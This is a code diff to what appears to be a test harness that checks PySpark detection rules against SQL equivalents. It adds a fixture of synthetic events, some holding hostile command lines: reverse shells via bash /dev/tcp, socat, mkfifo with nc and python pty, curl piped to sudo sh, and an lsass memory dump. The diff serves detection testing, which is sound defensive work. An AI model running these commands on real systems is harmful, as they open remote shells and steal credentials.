@@ -392,11 +392,7 @@ def recipes(t):
 @query("""SELECT doc_id, count(*) AS kinds, CAST(max(n) AS BIGINT) AS most, round(-sum((n / t) * log2(n / t)), 6) AS entropy FROM (SELECT doc_id, c, count(*) AS n, sum(count(*)) OVER (PARTITION BY doc_id) AS t FROM
   (SELECT doc_id, unnest(string_split(text, '')) AS c FROM documents WHERE length(text) > 0) GROUP BY 1, 2) GROUP BY 1""")
 def char_entropy(t):
-    # each row is summed up on its own; no character leaves its row
-    chars = F.filter(F.split("text", ""), lambda c: c != "")
-    own = t("documents").where(F.length("text") > 0).select("doc_id", F.explode(chars).alias("c")).groupBy("doc_id", "c").agg(F.count("*").alias("n"))
-    out = own.groupBy("doc_id").agg(F.count("*").alias("kinds"), F.max("n").alias("most"), F.sum("n").alias("t"), F.sum(F.col("n") * F.log2("n")).alias("s"))
-    return out.select("doc_id", "kinds", "most", F.round(F.log2("t") - F.col("s") / F.col("t"), 6).alias("entropy"))
+    return B.char_statistics(t("documents"), "doc_id", F.col("text"))
 
 
 @query("""SELECT s_suppkey, concat_ws('.', (ip >> 24) & 255, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255) AS ip, ip >> 28 = 10 >> 4 OR ip >> 24 = 10 OR ip >> 20 = (172 * 16 + 1) AS inside
@@ -438,23 +434,38 @@ def package_names(t):
 
 # --- detections and vulnerabilities
 
-#: Programs and command lines that events are given in turn, and the rule that holds for them.
-COMMANDS = (
-    ("bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "LIN-001a"), ("sh", "curl http://x/y | sudo sh", "LIN-001d"), ("grep", "grep /dev/tcp/ notes", None), ("cmd.exe", "schtasks /create /tn x", "WIN-001b"),
-    ("a.exe", "procdump -ma lsass", "WIN-001a"), ("bash", "nc -l 80", None), ("cmd.exe", "whoami /all", "WIN-001c"),
+#: What events are given in turn as an observation, and the rules that hold for it.
+OBSERVED = (
+    (dict(process="bash", command="bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"), "LIN-001a"), (dict(process="sh", command="curl http://x/y | sudo sh"), "LIN-001d"), (dict(process="grep", command="grep /dev/tcp/ notes"), None),
+    (dict(process="cmd.exe", command="schtasks /Create /tn x"), "WIN-001b"), (dict(process="a.exe", command="PROCDUMP -ma lsass"), "WIN-001a"), (dict(process="bash", command="nc -l 80"), None), (dict(process="cmd.exe", command="whoami /all"), "WIN-001c"),
+    (dict(process="powershell.exe", command="powershell -enc AAA"), "WIN-001d"), (dict(process="bash", exe="/usr/bin/bash", command="x -enc y"), None), (dict(process="cmd.exe", parent="WINWORD.EXE"), "WIN-001e"), (dict(exe="C:\\Users\\Public\\a.exe"), "WIN-001f"),
+    (dict(action="powershell -w hidden x"), "WIN-002"), (dict(service="s", unquoted_risk="true"), "WIN-004"), (dict(service="s", unquoted_risk="false"), None), (dict(destination_ip="1.2.3.4", destination_port="4444", process="cmd.exe"), "WIN-003a"),
+    (dict(destination_ip="1.2.3.4", destination_port="80", process="cmd.exe"), "WIN-003b"), (dict(destination_ip="127.0.0.1", destination_port="80", process="cmd.exe"), None), (dict(exe="/tmp/a"), "LIN-001b"), (dict(exe="/memfd:a", exe_deleted="true"), "LIN-001e"),
+    (dict(exe="/usr/bin/a", exe_deleted="true"), "LIN-001c"), (dict(exe="/home/a", exe_deleted="true"), "LIN-001c"), (dict(mechanism="cron", item="i", action="/tmp/x"), "LIN-002a"), (dict(mechanism="cron", item="i", action="nc -e /bin/sh h 9"), "LIN-002a"),
+    (dict(mechanism="ld_preload", item="/l.so"), "LIN-002b"), (dict(kind="network_socket", process="bash", state="Established", remote_ip="9.9.9.9", remote_port="1"), "LIN-003"), (dict(kind="network_socket", process="bash", state="Established", remote_ip="127.0.0.1", remote_port="1"), None),
+    (dict(process="python3", command="python3 -c 'import socket,pty; pty.spawn(1)'"), "LIN-001a"), (dict(process="socat", command="socat tcp:h:9 exec:sh"), "LIN-001a"), (dict(process="bash", command="mkfifo /run/f; sh </run/f | nc host 9 >/run/f"), "LIN-001a"),
 )
 
 
-def _cases(k: int) -> str:
-    return " ".join(f"WHEN {i} THEN " + ("NULL" if c[k] is None else f"'{c[k]}'") for i, c in enumerate(COMMANDS))
+def _observed(t):
+    at = F.col("event_id") % len(OBSERVED)
+    pick = lambda name, kind: F.element_at(F.array(*(F.lit(seen.get(name)).cast("string") for seen, _ in OBSERVED)), at.cast("int") + 1).cast(kind).alias(name)
+    return t("events").select("event_id", F.col("user_id").cast("string").alias("host"), *(pick(name, kind) for name, kind in detections.FIELDS.items() if name != "host"))
 
 
-@query(f"SELECT * FROM (SELECT event_id, CASE event_id % {len(COMMANDS)} {_cases(2)} END AS rule FROM events) WHERE rule IS NOT NULL")
+FIRES = " ".join(f"WHEN {k} THEN '{rule}'" for k, (_, rule) in enumerate(OBSERVED) if rule)
+
+
+@query(f"SELECT * FROM (SELECT event_id, CASE event_id % {len(OBSERVED)} {FIRES} END AS rule FROM events) WHERE rule IS NOT NULL")
 def detection_rules(t):
-    at = F.col("event_id") % len(COMMANDS)
-    pick = lambda k: F.element_at(F.array(*(F.lit(c[k]) for c in COMMANDS)), at.cast("int") + 1)
-    seen = t("events").select("event_id", F.col("user_id").cast("string").alias("host"), pick(0).alias("process"), pick(1).alias("command"))
-    return detections.detect(seen).select("event_id", "rule")
+    return detections.detect(_observed(t)).select("event_id", "rule")
+
+
+@query(f"""SELECT host, rule, count(*) AS n, max(CASE WHEN k IN ({', '.join(str(k) for k, (seen, rule) in enumerate(OBSERVED) if rule == 'LIN-001c' and seen['exe'].startswith('/usr'))}) THEN 45.0 WHEN rule = 'LIN-001c' THEN 80.0 ELSE -1 END) AS risk
+FROM (SELECT CAST(user_id AS VARCHAR) AS host, event_id % {len(OBSERVED)} AS k, CASE event_id % {len(OBSERVED)} {FIRES} END AS rule FROM events) WHERE rule IS NOT NULL GROUP BY 1, 2""")
+def detection_facts(t):
+    found = detections.detect(_observed(t))
+    return found.groupBy("host", "rule").agg(F.count("*").alias("n"), F.max(F.when(F.col("rule") == "LIN-001c", F.col("risk")).otherwise(-1.0)).alias("risk"))
 
 
 VERSIONS_SQL = "SELECT p_partkey, p_brand AS name, p_size || '.' || (p_partkey % 12) AS version, p_size * 100 + p_partkey % 12 AS n FROM part"
